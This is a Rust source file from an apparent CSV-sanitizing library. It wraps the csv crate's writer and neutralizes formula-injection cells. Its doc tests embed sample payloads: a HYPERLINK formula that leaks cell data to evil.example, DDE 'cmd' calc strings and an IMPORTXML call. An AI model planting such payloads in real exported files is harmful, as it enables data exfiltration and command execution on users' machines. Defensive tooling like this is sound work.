//! A `csv::Writer` wrapper that neutralizes every cell it writes.

use std::io;

use super::cell::{Neutralizer, Rejected};

/// Errors of the neutralizing [`Writer`].
///
/// ```
/// use safeguard::csv::{Neutralizer, Strategy, Writer, WriteError};
/// let mut w = Writer::with_neutralizer(Neutralizer::new().strategy(Strategy::Reject), Vec::new());
/// assert!(matches!(w.write_record(["=1"]), Err(WriteError::Rejected(_))));
/// ```
#[derive(Debug)]
#[non_exhaustive]
pub enum WriteError {
    /// A dangerous cell under [`Strategy::Reject`](super::Strategy::Reject).
    Rejected(Rejected),
    /// The `csv` crate (I/O or serialization) failed.
    Csv(::csv::Error),
}

impl std::fmt::Display for WriteError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Rejected(e) => e.fmt(f),
            Self::Csv(e) => write!(f, "CSV write failed: {e}"),
        }
    }
}

impl std::error::Error for WriteError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            Self::Rejected(e) => Some(e),
            Self::Csv(e) => Some(e),
        }
    }
}

impl From<::csv::Error> for WriteError {
    fn from(e: ::csv::Error) -> Self {
        Self::Csv(e)
    }
}

impl From<io::Error> for WriteError {
    fn from(e: io::Error) -> Self {
        Self::Csv(e.into())
    }
}

/// A CSV writer whose every cell goes through a [`Neutralizer`].
///
/// It wraps the `csv` crate's [`csv::Writer`](::csv::Writer) (buffering, delimiters,
/// terminators; records may differ in length) and does the quoting itself, with the same rules as the streaming
/// [`Rewriter`](super::Rewriter): a neutralized cell is always quoted, and cells holding the
/// delimiter, `"`, CR, LF, `,`, `;` or TAB are quoted. Records end with `\n`.
///
/// ```
/// use safeguard::csv::Writer;
///
/// let mut w = Writer::from_writer(Vec::new());
/// w.write_record(["name", "note"]).unwrap();
/// w.write_record(["mallory", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"]).unwrap();
/// w.write_record(["bob", "-12.50"]).unwrap();
/// assert_eq!(w.neutralized(), 1);
/// let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
/// assert_eq!(
///     out,
///     "name,note\nmallory,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\"\nbob,-12.50\n"
/// );
/// ```
#[derive(Debug)]
pub struct Writer<W: io::Write> {
    inner: ::csv::Writer<W>,
    nz: Neutralizer,
    field: Vec<u8>,
    first_in_record: bool,
    neutralized: u64,
    /// Whether `serialize` ran (the header row is written once).
    serialized: bool,
}

impl<W: io::Write> Writer<W> {
    /// A writer with the default [`Neutralizer`].
    ///
    /// ```
    /// let mut w = safeguard::csv::Writer::from_writer(Vec::new());
    /// w.write_record(["@SUM(1+1)*cmd|' /C calc'!A0"]).unwrap();
    /// assert_eq!(w.into_inner().unwrap(), b"\"'@SUM(1+1)*cmd|' /C calc'!A0\"\n");
    /// ```
    pub fn from_writer(wtr: W) -> Self {
        Self::with_neutralizer(Neutralizer::new(), wtr)
    }

    /// A writer with the given neutralizer (its strategy, number option and delimiter).
    ///
    /// ```
    /// use safeguard::csv::{Neutralizer, Writer};
    /// let mut w = Writer::with_neutralizer(Neutralizer::new().delimiter(b';'), Vec::new());
    /// w.write_record(["a", "+1"]).unwrap();
    /// assert_eq!(w.into_inner().unwrap(), b"a;+1\n");
    /// ```
    pub fn with_neutralizer(nz: Neutralizer, wtr: W) -> Self {
        // The csv crate must not quote again: we hand it finished fields.
        let inner = ::csv::WriterBuilder::new()
            .delimiter(nz.delimiter)
            .quote_style(::csv::QuoteStyle::Never)
            // flexible: the `sep=` line is a one-field record before the real ones
            .flexible(true)
            .from_writer(wtr);
        Self {
            inner,
            nz,
            field: Vec::new(),
            first_in_record: true,
            neutralized: 0,
            serialized: false,
        }
    }

    /// Writes Excel's `sep=X` hint line with this writer's delimiter, so the spreadsheet splits
    /// cells where this writer meant them. Call it first.
    ///
    /// ```
    /// let mut w = safeguard::csv::Writer::from_writer(Vec::new());
    /// w.write_sep_line().unwrap();
    /// w.write_record(["a", "b"]).unwrap();
    /// assert_eq!(w.into_inner().unwrap(), b"sep=,\na,b\n");
    /// ```
    pub fn write_sep_line(&mut self) -> Result<(), WriteError> {
        // QuoteStyle::Never writes the single field as it is.
        let line = [b's', b'e', b'p', b'=', self.nz.delimiter];
        self.inner.write_record([&line[..]])?;
        Ok(())
    }

    /// Writes one field of the current record.
    ///
    /// ```
    /// let mut w = safeguard::csv::Writer::from_writer(Vec::new());
    /// w.write_field("-2+3+cmd|' /C calc'!A0").unwrap();
    /// w.write_field("ok").unwrap();
    /// w.write_record(None::<&[u8]>).unwrap();
    /// assert_eq!(w.into_inner().unwrap(), b"\"'-2+3+cmd|' /C calc'!A0\",ok\n");
    /// ```
    pub fn write_field<T: AsRef<[u8]>>(&mut self, field: T) -> Result<(), WriteError> {
        // An empty first field is quoted: if it were the record's only one, an empty line would
        // lose the record.
        let only = self.first_in_record;
        self.put(field.as_ref(), only)
    }

    fn put(&mut self, field: &[u8], only: bool) -> Result<(), WriteError> {
        self.field.clear();
        let changed = self
            .nz
            .write_field(field, only, &mut self.field)
            .map_err(WriteError::Rejected)?;
        self.neutralized += u64::from(changed);
        self.first_in_record = false;
        self.inner.write_field(&self.field)?;
        Ok(())
    }

    /// Writes the given fields and ends the record.
    ///
    /// ```
    /// let mut w = safeguard::csv::Writer::from_writer(Vec::new());
    /// w.write_record(["1-2", "foo@example.org", "Test | Foo", "-3"]).unwrap();
    /// assert_eq!(w.into_inner().unwrap(), b"1-2,foo@example.org,Test | Foo,-3\n");
    /// ```
    pub fn write_record<I, T>(&mut self, record: I) -> Result<(), WriteError>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<[u8]>,
    {
        let mut it = record.into_iter().peekable();
        while let Some(field) = it.next() {
            let only = self.first_in_record && it.peek().is_none();
            self.put(field.as_ref(), only)?;
        }
        self.first_in_record = true;
        self.inner.write_record(None::<&[u8]>)?;
        Ok(())
    }

    /// Serializes a record with `serde` (as the `csv` crate does, header row included for
    /// structs) and writes its cells neutralized.
    ///
    /// ```
    /// #[derive(serde::Serialize)]
    /// struct Row<'a> { name: &'a str, note: &'a str }
    ///
    /// let mut w = safeguard::csv::Writer::from_writer(Vec::new());
    /// w.serialize(Row { name: "eve", note: "=IMPORTXML(\"http://x\",\"//a\")" }).unwrap();
    /// assert_eq!(
    ///     w.into_inner().unwrap(),
    ///     b"name,note\neve,\"'=IMPORTXML(\"\"http://x\"\",\"\"//a\"\")\"\n"
    /// );
    /// ```
    pub fn serialize<S: serde::Serialize>(&mut self, record: S) -> Result<(), WriteError> {
        // The csv crate writes a struct's header row with its first record only.
        let mut scratch = ::csv::WriterBuilder::new()
            .has_headers(!self.serialized)
            .from_writer(Vec::new());
        scratch.serialize(record)?;
        self.serialized = true;
        let bytes = scratch
            .into_inner()
            .map_err(|e| io::Error::from(e.error().kind()))?;
        let mut rdr = ::csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(&bytes[..]);
        let mut rec = ::csv::ByteRecord::new();
        while rdr.read_byte_record(&mut rec)? {
            self.write_record(&rec)?;
        }
        Ok(())
    }

    /// Cells neutralized so far.
    ///
    /// ```
    /// let mut w = safeguard::csv::Writer::from_writer(Vec::new());
    /// w.write_record(["=1", "+1", "+a"]).unwrap();
    /// assert_eq!(w.neutralized(), 2);
    /// ```
    pub fn neutralized(&self) -> u64 {
        self.neutralized
    }

    /// Flushes the buffered output.
    ///
    /// ```
    /// let mut w = safeguard::csv::Writer::from_writer(Vec::new());
    /// w.write_record(["a"]).unwrap();
    /// w.flush().unwrap();
    /// assert_eq!(w.into_inner().unwrap(), b"a\n");
    /// ```
    pub fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and returns the underlying writer.
    ///
    /// ```
    /// let w = safeguard::csv::Writer::from_writer(Vec::new());
    /// assert!(w.into_inner().unwrap().is_empty());
    /// ```
    pub fn into_inner(self) -> Result<W, WriteError> {
        self.inner
            .into_inner()
            .map_err(|e| WriteError::Csv(io::Error::from(e.error().kind()).into()))
    }
}
